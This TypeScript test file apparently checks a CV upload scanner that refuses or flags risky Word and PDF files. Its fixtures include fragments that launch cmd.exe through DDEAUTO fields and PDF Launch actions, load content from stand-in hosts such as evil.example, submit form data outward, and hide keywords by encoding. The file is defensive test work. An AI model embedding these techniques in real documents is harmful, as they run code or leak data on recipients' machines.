import fc from "fast-check";
import { describe, expect, test } from "vitest";
import {
  compoundOf,
  contentTypesOf,
  docOf,
  documentOf,
  docxOf,
  pdfWith,
  relationsOf,
  wordStreamOf,
} from "../../tests/server/fixtures/documents.ts";
import { marks } from "./cv/marks.ts";
import { inspectCv } from "./inspect-cv.ts";

const main = "word/_rels/document.xml.rels";
const microsoft = "http://schemas.microsoft.com/office/2006/relationships";
const field = (...pieces: string[]) =>
  documentOf(
    `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${pieces
      .map((piece) => `<w:r><w:instrText xml:space="preserve">${piece}</w:instrText></w:r>`)
      .join("")}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
  );
const document = (text: string, more = {}) => compoundOf(["WordDocument", 2, wordStreamOf(text, more)]);

describe("A CV with macros is refused", () => {
  test.each<[string, Buffer]>([
    ["a DOC that names them in small letters", docOf(["macros/vba/_vba_project", 2])],
    ["a DOC that has them in another place", docOf(["Data/_VBA_Project", 2])],
    [
      "a DOCX that has them under another name, by their relation",
      docxOf({ name: "word/macros.bin" }, relationsOf(main, [`${microsoft}/vbaProject`, "macros.bin"])),
    ],
    [
      "a DOCX that has them under another name, by their type",
      docxOf(
        contentTypesOf('<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
        { name: "word/macros.bin" },
      ),
    ],
  ])("%s", async (_name, bytes) => {
    expect(await inspectCv(bytes)).toEqual({ refused: "macros" });
  });
});

describe("What only looks like a Word document is refused", () => {
  test.each<[string, Buffer]>([
    [
      "an Excel sheet that speaks of WordDocument",
      compoundOf(["Workbook", 2, Buffer.from("WordDocument", "utf16le")]),
    ],
    ["an Excel sheet that holds a Word document", compoundOf(["Workbook", 2], ["MBD0001/WordDocument", 2])],
    [
      "a locked DOCX",
      compoundOf(["EncryptedPackage", 2], ["EncryptionInfo", 2, Buffer.from("WordDocument", "utf16le")]),
    ],
    ["a DOC whose directory leads in a circle", inACircle(docOf())],
    ["an archive without a Word document", docxOf({ name: "[Content_Types].xml", content: "<Types/>" })],
  ])("%s", async (_name, bytes) => {
    expect(await inspectCv(bytes)).toEqual({ refused: "another kind" });
  });
});

describe("Of a CV that could do harm the staff are told", () => {
  test.each<[string, Buffer, string]>([
    [
      "a DOC with an object of another program",
      docOf(["ObjectPool/_1234567890/\u0001Ole10Native", 2]),
      marks.file,
    ],
    ["a DOC with an old formula", docOf(["ObjectPool/_1/Equation Native", 2]), marks.file],
    ["a DOC locked with a password", document("", { locked: true }), marks.locked],
    ["a DOC whose field starts a program", document("\x13 DDEAUTO c:\\\\cmd.exe \x15"), marks.program],
    [
      "a DOC whose field, in two bytes a letter, starts a program",
      document("\x13 ddeauto c:\\\\cmd.exe \x15", { encoding: "utf16le" }),
      marks.program,
    ],
    ["a DOC whose field loads a text", document('\x13INCLUDETEXT "\\\\\\\\evil\\\\a" \x15'), marks.elsewhere],

    [
      "a DOCX with an object of another program",
      docxOf(relationsOf(main, ["oleObject", "embeddings/a.bin"])),
      marks.file,
    ],
    [
      "a DOCX with an object from elsewhere",
      docxOf(relationsOf(main, ["oleObject", "!file://evil/a"])),
      marks.file,
    ],
    ["a DOCX with a file in it", docxOf(relationsOf(main, ["package", "embeddings/a.xlsx"])), marks.file],
    ["a DOCX with another document in it", docxOf(relationsOf(main, ["aFChunk", "a.mht"])), marks.file],
    [
      "a DOCX with an ActiveX control",
      docxOf(relationsOf(main, ["control", "activeX/activeX1.xml"])),
      marks.control,
    ],
    [
      "a DOCX with an ActiveX control told by its type alone",
      docxOf(contentTypesOf('<Override PartName="/a.bin" ContentType="application/vnd.ms-office.activeX"/>')),
      marks.control,
    ],
    [
      "a DOCX with an add-in",
      docxOf(
        relationsOf("_rels/.rels", [
          "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes",
          "a.xml",
        ]),
      ),
      marks.control,
    ],
    [
      "a DOCX with a frame from elsewhere",
      docxOf(relationsOf("word/_rels/webSettings.xml.rels", ["frame", "!https://evil.example/"])),
      marks.elsewhere,
    ],
    [
      "a DOCX with a picture from elsewhere",
      docxOf(relationsOf(main, ["image", "!\\\\evil\\a.png"])),
      marks.elsewhere,
    ],
    [
      "a DOCX with a template from a computer on the network",
      docxOf(relationsOf("word/_rels/settings.xml.rels", ["attachedTemplate", "!file:///\\\\evil\\a.dotm"])),
      marks.elsewhere,
    ],
    [
      "a DOCX that hides its relations in other letters",
      docxOf({
        name: "WORD/_RELS/x.RELS",
        content: utf16Xml(`<a:Relationship Type='x/&#111;leObject' Target="a>b"/>`),
      }),
      marks.file,
    ],
    ["a DOCX whose field starts a program", docxOf(field(" DDEAUTO c:\\\\cmd.exe ")), marks.program],
    [
      "a DOCX whose field is written in pieces",
      docxOf(field(" DD", "EAU", "TO c:\\\\cmd.exe ")),
      marks.program,
    ],
    [
      "a DOCX whose field stands in one element",
      docxOf(documentOf('<w:p><w:fldSimple w:instr=" DDE excel a "/></w:p>')),
      marks.program,
    ],
    [
      "a DOCX whose field stands in a part of another name",
      docxOf(contentTypesOf("", "/word/document.dat"), {
        ...field("INCLUDEPICTURE \\\\\\\\evil\\\\a"),
        name: "word/document.dat",
      }),
      marks.elsewhere,
    ],
    ["a DOCX whose text is no XML", docxOf({ name: "word/document.xml", content: "<w" }), marks.unread],
    [
      "a DOCX with more text than anybody writes",
      docxOf(
        { ...documentOf("x".repeat(9e6)), packed: true },
        { name: "word/media/photo.jpg", content: Buffer.alloc(1e5) },
      ),
      marks.unread,
    ],

    ["a PDF with a form of its own", pdfWith(["<</AcroForm<</Fields[]/XFA 12 0 R>>>>"]), marks.form],
    ["a PDF that sends what is typed", pdfWith(["<</S/SubmitForm/F(http://evil.example)>>"]), marks.sends],
    ["a PDF that opens one elsewhere", pdfWith(["<</S/GoToE/F(\\\\\\\\evil\\\\a)>>"]), marks.elsewhere],
    ["a PDF that leads into a file", pdfWith(["<</S /GoToR/F(a.pdf)>>"]), marks.elsewhere],
    ["a PDF with a file in it", pdfWith(["<</Type/EmbeddedFile/Length 1>>"]), marks.file],
    ["a PDF with a list of files", pdfWith(["<</Dests 3 0 R/EmbeddedFiles 4 0 R>>"]), marks.file],
    ["a PDF locked with a password", pdfWith(["<</Root 1 0 R/Encrypt 9 0 R>>"]), marks.locked],
    ["a PDF that hides the word", pdfWith(["<</#53%a\n/#4Caunc#68/F(cmd.exe)>>"]), marks.program],
    [
      "a PDF with compressed JavaScript",
      pdfWith(["<</S/JavaScript/JS(x)>>"], { compressed: true }),
      marks.script,
    ],
    [
      "a PDF with compressed JavaScript in a stream that doesn’t say what it is",
      pdfWith(["<</S/JavaScript/JS(x)>>"], { compressed: true, dictionary: "/Type 9 0 R" }),
      marks.script,
    ],
    [
      "a PDF whose objects are packed otherwise",
      pdfWith(["<</Type/ObjStm/First 9/Filter/LZWDecode>>stream\n\x80\x0b\nendstream"]),
      marks.unread,
    ],
    [
      "a PDF whose objects unpack to more than a CV has",
      pdfWith([`(${" ".repeat(20e6)})`], { compressed: true }),
      marks.unread,
    ],
  ])("%s", async (_name, bytes, mark) => {
    expect(await inspectCv(bytes)).toMatchObject({ mark });
  });

  test("more than one thing is told in one sentence", async () => {
    const bytes = pdfWith(["<</S/JavaScript>>", "<</S/Launch>>", "<</S/JavaScript>>"]);
    expect(await inspectCv(bytes)).toEqual({ kind: "pdf", mark: `${marks.script}; ${marks.program}` });
  });
});

test("A CV damaged anywhere is judged all the same, whatever is broken in it", async () => {
  const whole = [
    docOf(["ObjectPool/_1/\u0001Ole10Native", 2]),
    docxOf(relationsOf(main, ["hyperlink", "!https://example.org"]), { ...field(" PAGE "), packed: true }),
    pdfWith(["<</S/URI>>"], { compressed: true }),
  ];
  const blow = fc.record({
    at: fc.double({ min: 0, max: 1, noNaN: true }),
    bytes: fc.uint8Array({ minLength: 1, maxLength: 8 }),
  });
  await fc.assert(
    fc.asyncProperty(
      fc.constantFrom(...whole),
      fc.array(blow, { minLength: 1, maxLength: 6 }),
      async (bytes, blows) => {
        const damaged = Buffer.from(bytes);
        for (const { at, bytes } of blows)
          damaged.set(bytes, Math.floor(at * (damaged.length - bytes.length)));
        const judged = await inspectCv(damaged);
        expect("refused" in judged ? judged.refused : judged.kind).toBeTypeOf("string");
      },
    ),
    { numRuns: 500 },
  );
});

/** The first sector of the directory says that it is followed by itself. */
function inACircle(bytes: Buffer): Buffer {
  const table = bytes.readUInt32LE(76);
  bytes.writeUInt32LE(0, (table + 1) * 512);
  return bytes;
}

function utf16Xml(relation: string): Buffer {
  return Buffer.from(`\ufeff<a:Relationships xmlns:a="x">${relation}</a:Relationships>`, "utf16le");
}
